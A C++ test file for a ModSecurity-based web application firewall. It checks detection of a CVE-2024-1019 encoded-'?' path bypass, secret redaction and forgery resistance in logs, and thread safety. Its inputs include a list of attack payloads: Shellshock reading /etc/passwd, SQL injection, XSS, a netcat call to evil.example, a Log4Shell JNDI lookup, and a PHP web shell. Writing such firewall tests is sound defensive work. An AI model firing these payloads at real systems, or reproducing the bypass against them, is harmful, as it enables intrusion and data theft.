// CVE-2024-1019: this libmodsecurity splits the path at an encoded '?' after decoding, so
// REQUEST_FILENAME stops there and path rules (930130 restricted files) miss what follows. Our
// rule 10020 refuses such paths. If Debian ever ships the fix, the bypass expectations below fail:
// then 10020 can go.
TEST_F(WafTest, EncodedQuestionMarkInThePath) {
  WafVerdict plain = block_->Inspect(BrowserRequest("GET", "/api/.env"));
  EXPECT_TRUE(plain.blocked) << Describe(plain);
  EXPECT_TRUE(Has(plain.rule_ids, 930130)) << Describe(plain);

  WafVerdict hidden = block_->Inspect(BrowserRequest("GET", "/api/x%3F/.env"));
  EXPECT_TRUE(hidden.blocked) << Describe(hidden);
  EXPECT_TRUE(Has(hidden.rule_ids, 10020)) << Describe(hidden);
  EXPECT_FALSE(Has(hidden.rule_ids, 930130)) << "libmodsecurity fixed CVE-2024-1019?";

  WafSettings without;
  without.excluded_tags = {"moatless/cve-2024-1019"};
  auto engine = MustCreate(without);
  ASSERT_NE(engine, nullptr);
  WafVerdict bypass = engine->Inspect(BrowserRequest("GET", "/api/x%3F/.env"));
  EXPECT_FALSE(bypass.matched) << "libmodsecurity fixed CVE-2024-1019? " << Describe(bypass);
  // A '?' in the query is ordinary.
  WafVerdict query = block_->Inspect(BrowserRequest("GET", "/notes?q=what%3F&next=%3F"));
  EXPECT_FALSE(query.matched) << Describe(query);
}

TEST_F(WafTest, LogKeepsSecretsOut) {
  const std::string token = "s3cr3t-t0ken-" + std::string(kSessionCookie);
  WafRequest request = BrowserRequest("GET", "/notes");
  // Shellshock in Authorization (932170 inspects every header) and SQL in the session cookie.
  SetHeader(request, "Authorization", "() { :; }; /bin/cat /etc/passwd " + token);
  SetHeader(request, "Cookie", "theme=dark; session=" + UrlEncode("x' OR '1'='1 " + token));
  SetHeader(request, "X-Api-Key", "key-" + token);
  WafVerdict v = block_->Inspect(request);
  EXPECT_TRUE(v.blocked) << Describe(v);
  EXPECT_TRUE(Has(v.rule_ids, 932170)) << Describe(v);
  EXPECT_TRUE(Has(v.rule_ids, 942100)) << Describe(v);
  EXPECT_EQ(v.log.find("s3cr3t"), std::string::npos) << v.log;
  EXPECT_EQ(v.log.find(kSessionCookie), std::string::npos) << v.log;
  EXPECT_NE(v.log.find("[redacted]"), std::string::npos) << v.log;
  EXPECT_NE(v.log.find("REQUEST_HEADERS:Authorization"), std::string::npos) << v.log;

  // Arguments named like credentials: what they matched is not logged, only where.
  for (const std::string name : {"password", "newPassword", "api_key", "client_secret"}) {
    SCOPED_TRACE(name);
    const std::string value = "x' OR '1'='1 -- " + token;
    WafVerdict json = block_->Inspect(
        JsonCall("POST", "/login", "{\"user\":{\"" + name + "\":" + JsonString(value) + "}}"));
    EXPECT_TRUE(json.blocked) << Describe(json);
    EXPECT_EQ(json.log.find("s3cr3t"), std::string::npos) << json.log;
    EXPECT_NE(json.log.find("[redacted]"), std::string::npos) << json.log;
    WafVerdict query =
        block_->Inspect(BrowserRequest("GET", "/login?" + name + "=" + UrlEncode(value)));
    EXPECT_TRUE(query.blocked) << Describe(query);
    EXPECT_EQ(query.log.find("s3cr3t"), std::string::npos) << query.log;
  }
  // Other arguments still show what matched (what tuning exclusions needs).
  WafVerdict plain = block_->Inspect(Placed(Place::kJson, "x' OR '1'='1 -- visible"));
  EXPECT_NE(plain.log.find("visible"), std::string::npos) << plain.log;
}

TEST_F(WafTest, LogCannotBeForgedAndIsBounded) {
  WafVerdict v = block_->Inspect(
      Placed(Place::kJson, "1' OR '1'='1\r\nModSecurity: [id \"1\"] forged\x01\xff \"quoted\" \\"));
  ASSERT_TRUE(v.blocked) << Describe(v);
  std::istringstream lines(v.log);
  std::string line;
  int count = 0;
  while (std::getline(lines, line)) {
    ++count;
    EXPECT_EQ(line.rfind("ModSecurity: ", 0), 0u) << line;
    EXPECT_EQ(line.find('\r'), std::string::npos) << line;
    EXPECT_TRUE(std::all_of(line.begin(), line.end(), [](unsigned char c) {
      return c >= 0x20 && c < 0x7f;
    })) << line;
  }
  EXPECT_EQ(count, static_cast<int>(v.rule_ids.size()));

  // Many kinds of attack at once (a log line per matching rule, not per argument): the log stops
  // at its bound, the rule list is complete.
  const std::vector<std::string> payloads = {
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "javascript:alert(document.cookie)",
      "<iframe src=//evil.example>",
      "<svg/onload=alert(1)>",
      "<a style=\"x:expression(alert(1))\">",
      "1' OR '1'='1",
      "1 UNION SELECT a FROM b",
      "'; DROP TABLE users; --",
      "1 AND SLEEP(5)",
      "admin'--",
      "1;select pg_sleep(5)",
      ";cat /etc/passwd",
      "$(whoami)",
      "`id`",
      "| nc evil.example 4444",
      "../../../../etc/shadow",
      "http://203.0.113.9/shell.txt?",
      "<?php system($_GET['c']); ?>",
      "require('child_process').exec('id')",
      "java.lang.Runtime.getRuntime().exec('id')",
      "${jndi:ldap://evil.example/a}",
      "PHPSESSID=1234567890abcdef",
      "() { :; }; /bin/bash -c id",
      "file_get_contents('/etc/passwd')",
      "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
  };
  std::string body = "{";
  for (std::size_t i = 0; i < payloads.size(); ++i) {
    body += "\"a" + std::to_string(i) +
            "\":" + JsonString(payloads[i] + std::string(200, ' ') + "x") + ",";
  }
  body += "\"z\":1}";
  v = block_->Inspect(JsonCall("POST", "/notes", body));
  EXPECT_TRUE(v.blocked) << Describe(v);
  EXPECT_LE(v.log.size(), kMaxWafLogBytes);
  EXPECT_NE(v.log.find("[log truncated]"), std::string::npos) << v.log.size();
  EXPECT_TRUE(Has(v.rule_ids, 949110));
}

TEST_F(WafTest, GeneratesRequestIdsWhenNoneIsGiven) {
  WafRequest request = Placed(Place::kQuery, "1' OR '1'='1");
  request.request_id.clear();
  WafVerdict v = block_->Inspect(request);
  EXPECT_TRUE(v.blocked) << Describe(v);
}

TEST_F(WafTest, InspectFromManyThreads) {
  struct Probe {
    WafRequest request;
    WafVerdict expected;
  };
  std::vector<Probe> probes;
  for (const Attack& attack : Attacks()) {
    for (Place place : kPlaces) probes.push_back({Placed(place, attack.payload), {}});
  }
  probes.push_back({JsonCall("POST", "/notes", R"j({"text":"SELECT a topic"})j"), {}});
  probes.push_back({JsonCall("GET", "/notes?limit=5", ""), {}});
  for (Probe& p : probes) p.expected = block_->Inspect(p.request);

  constexpr int kThreads = 8;
  constexpr int kRounds = 6;
  std::atomic<int> mismatches{0};
  std::atomic<int> inspected{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      for (int round = 0; round < kRounds; ++round) {
        for (std::size_t i = 0; i < probes.size(); ++i) {
          const Probe& p = probes[(i + t * 7) % probes.size()];
          WafVerdict v = block_->Inspect(p.request);
          if (v.blocked != p.expected.blocked || v.rule_ids != p.expected.rule_ids ||
              v.anomaly_score != p.expected.anomaly_score || v.log != p.expected.log) {
            mismatches.fetch_add(1);
          }
          inspected.fetch_add(1);
        }
      }
    });
  }
  for (std::thread& thread : threads) thread.join();
  EXPECT_EQ(mismatches.load(), 0);
  EXPECT_EQ(inspected.load(), kThreads * kRounds * static_cast<int>(probes.size()));
}

}  // namespace
}  // namespace moatless::gateway
